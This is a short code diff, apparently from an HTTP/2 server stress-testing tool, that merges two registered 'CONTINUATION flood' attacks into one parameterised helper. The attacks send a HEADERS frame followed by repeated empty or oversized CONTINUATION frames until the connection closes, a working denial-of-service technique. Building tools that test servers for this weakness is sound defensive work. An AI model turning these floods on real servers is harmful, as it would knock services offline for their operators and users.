@@ -35,22 +35,18 @@ def _(target):
         frame(HEADERS, END_HEADERS, wire.take(), next(made)) for _ in range(50)))
 
 
-@attack("CONTINUATION flood")
-def _(target):
-    wire = target.wire()
-    stream = wire.take()
-    first = [frame(HEADERS, END_STREAM, stream, b"\x82")]
-    return until_closed(wire, lambda: (first.pop() if first else b"") + frame(CONTINUATION, 0, stream, b"") * 100)
+def continuation_flood(name, block, count):
+    @attack(name)
+    def _(target):
+        wire = target.wire()
+        stream = wire.take()
+        first = [frame(HEADERS, END_STREAM, stream, b"\x82")]
+        return until_closed(
+            wire, lambda: (first.pop() if first else b"") + frame(CONTINUATION, 0, stream, block) * count)
 
 
-@attack("large CONTINUATION flood")
-def _(target):
-    wire = target.wire()
-    stream = wire.take()
-    first = [frame(HEADERS, END_STREAM, stream, b"\x82")]
-    field = b"\x00\x7f\xf1\x00x" + b"x" * 367
-    return until_closed(
-        wire, lambda: (first.pop() if first else b"") + frame(CONTINUATION, 0, stream, field * 40))
+continuation_flood("CONTINUATION flood", b"", 100)
+continuation_flood("large CONTINUATION flood", (b"\x00\x7f\xf1\x00x" + b"x" * 367) * 40, 1)
 
 
 def flood(name, made):
